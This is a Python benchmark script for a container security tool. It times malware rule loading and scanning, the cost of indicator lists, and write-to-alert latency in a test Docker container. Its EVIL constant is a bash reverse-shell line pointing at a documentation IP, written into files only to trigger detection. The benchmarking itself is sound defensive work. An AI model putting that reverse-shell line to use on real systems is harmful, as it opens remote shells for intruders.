"""From write to alert in a real container, what a file costs to scan, what full lists of indicators cost a node."""

import contextlib
import json
import os
import random
import signal
import statistics
import subprocess
import sys
import tempfile
import time
from ipaddress import IPv4Address
from pathlib import Path

from seawall.malware import ruleset
from seawall.malware.scanner import Scanner
from seawall.node import rootfs
from seawall.node.docker import Docker
from seawall.runtime import plan as plans
from seawall.runtime.detect.indicators import MAX_ADDRESSES, MAX_DOMAINS, MAX_HASHES, Indicator, Indicators, pack

NAME = IMAGE = "seawall-bench-samples"
SECONDS_LIMIT = 5.0
"""What "within seconds" allows from a write to its alert."""
MEMORY_LIMIT = 26 << 20
EVIL = "#!/bin/bash\\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\\n# "


def main(quick: bool) -> None:
    """Three parts."""
    _scanner()
    _lists()
    _from_write_to_alert(5 if quick else 20)


def _scanner() -> None:
    began = time.perf_counter()
    rules = ruleset.load()
    scanner = Scanner(rules)
    print(f"rules loaded                {(time.perf_counter() - began) * 1000:8.1f} ms     ({rules.count} rules)")
    files = [path for path in sorted(Path("/usr/bin").iterdir()) if path.is_file() and not path.is_symlink()][:300]
    sizes, spent = 0, 0.0
    for path in files:
        data = path.read_bytes()
        began = time.perf_counter()
        scanner.scan(data, path.name, executable=True)
        spent += time.perf_counter() - began
        sizes += len(data)
    speed = f"{sizes / spent / 1e6:.0f} MB/s over {len(files)}"
    print(f"a program                   {spent / len(files) * 1000:8.2f} ms     ({speed})")
    text = b"#!/bin/sh\necho hello\n" * 50
    began = time.perf_counter()
    for _ in range(1000):
        scanner.scan(text, "x.sh")
    print(f"a script of 1 KB            {(time.perf_counter() - began):8.2f} ms")


def _lists() -> None:
    source = random.Random(7)
    entries = [Indicator("ip", str(IPv4Address(0x01000000 + 97 * n)), "c2", "feed") for n in range(MAX_ADDRESSES)]
    entries += [Indicator("domain", f"host{n}.evil{n % 999}.example", "c2", "feed") for n in range(MAX_DOMAINS)]
    entries += [Indicator("sha256", source.randbytes(32).hex(), "malware", "feed") for _ in range(MAX_HASHES)]
    began = time.perf_counter()
    packed = pack(entries)
    took = time.perf_counter() - began
    held = len(packed["domains"]) + len(packed["hashes"]) + sum(map(len, packed["v4"].values()))
    wire = len(json.dumps(plans.encode(plans.seal((), {}, {}, listed=packed)), separators=(",", ":")))
    print(f"full lists on a node        {held / 1024:8.0f} KB     ({held / MEMORY_LIMIT:.3f} × of the agent's memory)")
    share = f"{wire / plans.MAX_BYTES:.2f} × of the largest plan; packed in {took:.1f} s"
    print(f"full lists in a plan        {wire / 1024:8.0f} KB     ({share})")
    lists = Indicators(packed)
    hosts = [str(IPv4Address(source.randrange(1 << 24, 3 << 30))) for _ in range(20_000)]
    print(f"an address                  {_each(lists.address, hosts):8.2f} µs")
    print(f"an address seen before      {_each(lists.address, hosts[:400] * 50):8.2f} µs")
    names = [f"a.b.www{n}.example.org" for n in range(20_000)]
    print(f"a name of five labels       {_each(lists.domain, names):8.2f} µs")


def _each(ask, values) -> float:  # type: ignore[no-untyped-def]
    began = time.perf_counter()
    for value in values:
        ask(value)
    return (time.perf_counter() - began) / len(values) * 1e6


def _from_write_to_alert(count: int) -> None:
    Docker().import_image(IMAGE, rootfs.build(("bash", "sleep")))
    _docker("rm", "-f", NAME, check=False)
    created = _docker("run", "-d", "--name", NAME, IMAGE, "/bin/sleep", "3600")
    try:
        with tempfile.TemporaryDirectory() as state, _watching(Path(state)) as out:
            waits = []
            for number in range(count):
                _docker("exec", NAME, "/bin/bash", "-c", f"printf '{EVIL}{number}' > /tmp/{number}.sh")
                began = time.monotonic()
                while not _told(out, created, number):
                    if time.monotonic() - began > 60:
                        raise TimeoutError("no alert")
                    time.sleep(0.02)
                waits.append(time.monotonic() - began)
    finally:
        _docker("rm", "-f", NAME, check=False)
        _docker("rmi", IMAGE, check=False)
    first, rest = waits[0], sorted(waits[1:])
    share = f"the scanner starts; {first / SECONDS_LIMIT:.2f} × of {SECONDS_LIMIT:.0f} s"
    print(f"write to alert, first       {first:8.2f} s      ({share})")
    worst = f"1 s of it is waiting for the writer; worst {rest[-1]:.2f} s"
    print(f"write to alert, median      {statistics.median(rest):8.2f} s      ({worst})")


def _told(out: Path, container: str, number: int) -> bool:
    for line in out.read_text().splitlines():
        with contextlib.suppress(ValueError):
            alert = json.loads(line)
            file = alert["evidence"].get("file", {}).get("path", "")
            if alert["category"] == "malware" and alert["container"]["id"] == container and file == f"/tmp/{number}.sh":
                return True
    return False


@contextlib.contextmanager
def _watching(state: Path):  # type: ignore[no-untyped-def]
    out, err = state / "out", state / "err"
    environment = os.environ | {"SEAWALL_STATE": str(state)}
    command = [sys.executable, "-m", "seawall", "runtime", "watch", "--output", "json"]
    with out.open("wb") as stdout, err.open("wb") as stderr:
        process = subprocess.Popen(command, stdout=stdout, stderr=stderr, env=environment)
    try:
        while "watching with" not in err.read_text():
            if process.poll() is not None:
                raise RuntimeError(err.read_text())
            time.sleep(0.1)
        yield out
    finally:
        process.send_signal(signal.SIGINT)
        process.wait(20)


def _docker(*arguments: str, check: bool = True) -> str:
    done = subprocess.run(["docker", *arguments], capture_output=True, text=True, timeout=120, check=check)
    return done.stdout.strip()
